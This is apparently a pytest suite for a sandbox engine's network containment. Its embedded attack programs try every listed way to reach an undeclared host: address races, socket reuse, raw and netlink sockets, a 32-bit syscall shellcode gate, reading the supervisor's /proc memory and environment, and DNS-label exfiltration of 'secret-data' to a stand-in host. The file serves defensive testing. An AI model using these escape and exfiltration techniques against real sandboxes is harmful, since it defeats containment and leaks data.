# SPDX-License-Identifier: Apache-2.0
"""Attack: an application tries to reach a host that its manifest does not name, by every way we know.

Control: the same program reaches the host where nothing contains it, and reaches the declared host in the sandbox.
"""

from __future__ import annotations

import os
import platform

import pytest
from tests.engines.sandbox.conftest import sandbox, stage
from tests.engines.sandbox.sandbox_stage import Outcome, Stage

from armillary.engines.sandbox.port import ConnectionAttempt, Sandbox
from armillary.engines.sandbox.selection import open_sandbox

__all__ = ["sandbox", "stage"]

DECLARED, UNDECLARED = "127.0.0.1", "127.0.0.2"


def attack(stage: Stage, sandbox: Sandbox, code: str) -> Outcome:
    """Run code that may connect to one address; ``{port}`` is served on both."""
    return stage.run(sandbox, code, hosts=[DECLARED], with_listeners=True)


def attempts(found: Outcome) -> list[ConnectionAttempt]:
    return [each for each in found.attempts if not each.allowed and each.host == UNDECLARED]


PLAIN = f"""
import socket
for host in ("{UNDECLARED}", "{DECLARED}"):
    try:
        print(host, socket.create_connection((host, {{port}}), 5).recv(5))
    except OSError as error:
        print(host, error.errno)
"""


def test_the_plain_attempt(stage: Stage, sandbox: Sandbox) -> None:
    found = attack(stage, sandbox, PLAIN)
    assert found.lines == [f"{UNDECLARED} 13", f"{DECLARED} b'hello'"]
    assert found.reached == [DECLARED]
    assert [(each.port > 0, each.protocol) for each in attempts(found)] == [(True, "tcp")]


def test_control_without_a_sandbox_it_is_reached(stage: Stage) -> None:
    found = attack(stage, open_sandbox("process"), PLAIN)
    assert found.lines == [f"{UNDECLARED} b'hello'", f"{DECLARED} b'hello'"]
    assert sorted(found.reached) == [DECLARED, UNDECLARED]
    assert not found.attempts


IPV6 = """
import socket
for host in ("::1", "2001:db8::1", "::ffff:127.0.0.2"):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            socket.socket(socket.AF_INET6, kind).connect((host, {port})); print("connected")
        except OSError as error:
            print(error.errno)
"""


def test_by_ipv6(stage: Stage, sandbox: Sandbox) -> None:
    found = attack(stage, sandbox, IPV6)
    assert found.lines == ["13"] * 6, found.errors
    refused = {(host, protocol) for host, _, protocol in found.refused()}
    assert refused == {(host, kind) for host in ("::1", "2001:db8::1", UNDECLARED) for kind in ("tcp", "udp")}
    assert found.reached == []


CHILDREN = f"""
import os, socket, subprocess, sys
program = 'import socket\\ntry: print(socket.create_connection(("{UNDECLARED}", {{port}}), 5).recv(5))\\nexcept OSError as e: print(e.errno)'
print(subprocess.run([sys.executable, "-c", program], capture_output=True, text=True, env=dict(os.environ)).stdout.strip(), flush=True)
if os.fork() == 0:
    try: socket.create_connection(("{UNDECLARED}", {{port}}), 5); os._exit(1)
    except OSError as error: print(error.errno, flush=True); os._exit(0)
os.wait()
"""


def test_from_children(stage: Stage, sandbox: Sandbox) -> None:
    """fork and exec change nothing: a filter is inherited."""
    found = attack(stage, sandbox, CHILDREN)
    assert found.lines == ["13", "13"], found.errors
    assert found.reached == []


RACE = f"""
import ctypes, os, socket, struct, threading, time
libc = ctypes.CDLL(None, use_errno=True)
def packed(host): return struct.pack("=H", 2) + struct.pack("!H4s8x", {{port}}, socket.inet_aton(host))
good, bad = packed("{DECLARED}"), packed("{UNDECLARED}")
address = ctypes.create_string_buffer(good, 16)
stop = False
def flip():
    while not stop:
        ctypes.memmove(address, bad, 16)
        ctypes.memmove(address, good, 16)
threads = [threading.Thread(target=flip) for _ in range(2)]
for thread in threads: thread.start()
got = refused = 0
for _ in range(300):
    peer = socket.socket()
    if libc.connect(peer.fileno(), address, 16) == 0: got += 1
    else: refused += 1
    peer.close()
stop = True
for thread in threads: thread.join()
print(got + refused, got > 0)
"""


def test_changing_the_address_while_it_is_decided(stage: Stage, sandbox: Sandbox) -> None:
    """Time of check, time of use: the address is copied once, and the copy is what is connected to."""
    found = attack(stage, sandbox, RACE)
    assert found.lines == ["300 True"], found.errors
    assert UNDECLARED not in found.reached
    assert DECLARED in found.reached


DISCONNECT = f"""
import ctypes, errno, socket, struct
libc = ctypes.CDLL(None, use_errno=True)
def name(result): return "ok" if result >= 0 else errno.errorcode[ctypes.get_errno()]
def packed(family, host="0.0.0.0", port=0): return struct.pack("=H", family) + struct.pack("!H4s8x", port, socket.inet_aton(host))
bad = packed(2, "{UNDECLARED}", {{port}})
def fresh(): return socket.create_connection(("{DECLARED}", {{port}}), 5)
peer = fresh(); print("unspec", name(libc.connect(peer.fileno(), packed(0), 16)))
print("again", name(libc.connect(peer.fileno(), bad, 16)))
for flags in (0x20000000, 0x20004000):
    print("fastopen", name(libc.sendto(peer.fileno(), b"x", 1, flags, packed(0), 16)), name(libc.sendto(peer.fileno(), b"x", 1, flags, bad, 16)))
unconnected = socket.socket(); print("fresh", name(libc.sendto(unconnected.fileno(), b"x", 1, 0x20000000, bad, 16)))
try: unconnected.setsockopt(socket.IPPROTO_TCP, 30, 1)
except OSError: pass
print("deferred", name(libc.connect(unconnected.fileno(), bad, 16)))
peer = fresh(); peer.shutdown(socket.SHUT_RDWR)
print("shut", name(libc.connect(peer.fileno(), bad, 16)), name(libc.listen(peer.fileno(), 1)) != "ok")
reset = fresh(); reset.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
print("bind", name(libc.bind(reset.fileno(), packed(2, "0.0.0.0", 0), 16)))
"""


def test_turning_an_allowed_connection_into_another(stage: Stage, sandbox: Sandbox) -> None:
    """An allowed connection is a socket of the host's network: it must stay what it is."""
    found = attack(stage, sandbox, DISCONNECT)
    lines = dict(line.split(" ", 1) for line in found.lines)
    assert lines["unspec"] == "EPERM", found.errors
    assert lines["again"] == "EACCES"
    assert lines["fastopen"] == "EPERM EPERM"
    assert lines["fresh"] == "EPERM"
    assert lines["deferred"] == "EACCES"
    assert lines["shut"] == "EACCES True"
    assert lines["bind"] in ("EINVAL", "EACCES")
    assert UNDECLARED not in found.reached
    assert attempts(found)


INSIDE = f"""
import errno, socket, struct, time
# A port that waits inside, and the same port of the host: a connected outside socket must not reach the host's.
peer = socket.create_connection(("{DECLARED}", {{port}}), 5); peer.recv(5)
listening = socket.socket()
try:
    listening.bind(("127.0.0.2", {{port}})); listening.listen()
except OSError as error:
    print("no listener", errno.errorcode[error.errno])
peer.sendall(b"x"); peer.shutdown(socket.SHUT_RDWR); time.sleep(0.2)
try:
    peer.connect(("127.0.0.2", {{port}})); print("connected", peer.recv(5))
except OSError as error:
    print(errno.errorcode[error.errno])
"""


def test_a_listener_of_its_own_does_not_open_the_hosts(stage: Stage, sandbox: Sandbox) -> None:
    found = attack(stage, sandbox, INSIDE)
    assert found.lines[-1] in ("EACCES", "EISCONN"), found.lines
    assert UNDECLARED not in found.reached


OTHER_WAYS = """
import ctypes, errno, socket
libc = ctypes.CDLL(None, use_errno=True)
def name(result): return "ok" if result >= 0 else errno.errorcode[ctypes.get_errno()]
print("io_uring", name(libc.syscall(425, 8, ctypes.create_string_buffer(120))))
print("netlink", name(libc.socket(16, 3, 0)))
print("packet", name(libc.socket(17, 3, 0)))
print("raw", name(libc.socket(2, 3, 255)))
print("vsock", name(libc.socket(40, 1, 0)))
print("setns", name(libc.setns(0, 0x40000000)))
print("unshare", name(libc.unshare(0x40000000)))
print("ptrace", name(libc.ptrace(16, 1, 0, 0)))
print("getfd", name(libc.syscall(438, 0, 0, 0)))
print("filter", name(libc.prctl(22, 2, 0, 0, 0)))
"""


def test_other_ways_to_a_socket(stage: Stage, sandbox: Sandbox) -> None:
    found = attack(stage, sandbox, OTHER_WAYS)
    lines = dict(line.split(" ") for line in found.lines)
    assert set(lines.values()) == {"EPERM", "EAFNOSUPPORT"}, lines
    assert len(lines) == 10


OLD_CALL = """
import ctypes, mmap
# socketcall(SYS_SOCKET) of the 32-bit interface: mov eax, 102; xor ebx, ebx; int 0x80; ret
code = bytes.fromhex("b866000000 31db cd80 c3".replace(" ", ""))
memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
memory.write(code)
print("before", flush=True)
ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))()
print("after", flush=True)
"""


@pytest.mark.skipif(platform.machine() != "x86_64", reason="the 32-bit call gate is x86's")
def test_the_32_bit_interface(stage: Stage, sandbox: Sandbox) -> None:
    """Calls that enter the kernel as another architecture end the process: their numbers mean other things."""
    found = attack(stage, sandbox, OLD_CALL)
    assert found.lines == ["before"]
    assert found.status is not None
    assert found.status.signal == 31  # SIGSYS


def test_the_supervisor_cannot_be_reached_or_ended(stage: Stage, sandbox: Sandbox) -> None:
    code = f"""
import os
for number in (0, 9):
    try: os.kill({os.getpid()}, number); print("signalled")
    except OSError as error: print("refused")
for path in ("/proc/{os.getpid()}/mem", "/proc/{os.getpid()}/environ"):
    try: open(path, "rb").read(1); print("read")
    except OSError: print("refused")
try: print(sorted(os.listdir("/proc/self/fd")))
except OSError: print("hidden")
"""
    found = attack(stage, sandbox, code)
    assert found.lines[:4] == ["refused"] * 4
    assert found.lines[4] in ("hidden", "['0', '1', '2', '3']")  # no descriptor of the supervisor's


def test_names_are_no_tunnel(stage: Stage, sandbox: Sandbox) -> None:
    """Data in the labels of a name goes nowhere: it is answered here, refused, and reported."""
    code = """
import socket
for name in ("6d79-secret-data.collector.example", "x." * 60 + "example"):
    try: socket.getaddrinfo(name, 80); print("resolved")
    except socket.gaierror: print("refused")
"""
    found = attack(stage, sandbox, code)
    assert found.lines == ["refused", "refused"]
    assert "6d79-secret-data.collector.example" in {each.host for each in found.attempts if not each.allowed}


SOURCE_ROUTE = """
import errno, socket
peer = socket.socket(socket.AF_INET6)
# A segment routing header (RFC 8754 §2): by this host first.
route = bytes([0, 2, 4, 0, 0, 0, 0, 0]) + socket.inet_pton(socket.AF_INET6, "::1")
for option in (57, 5):
    try: peer.setsockopt(socket.IPPROTO_IPV6, option, route); print("ok")
    except OSError as error: print(errno.errorcode[error.errno])
peer.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
"""


@pytest.mark.skipif(
    not os.path.exists("/proc/net/if_inet6"),  # noqa: PTH110 - a kernel file
    reason="this host has no IPv6: sysctl net.ipv6.conf.all.disable_ipv6=0",
)
def test_no_packet_goes_by_another_host_first(stage: Stage, sandbox: Sandbox) -> None:
    """A connection to a declared host whose packets an undeclared one would get first, to hand them on."""
    found = attack(stage, sandbox, SOURCE_ROUTE)
    assert found.lines == ["EPERM", "EPERM"], found.errors
    control = attack(stage, open_sandbox("process"), SOURCE_ROUTE)
    assert control.lines[0] == "ok", control.errors
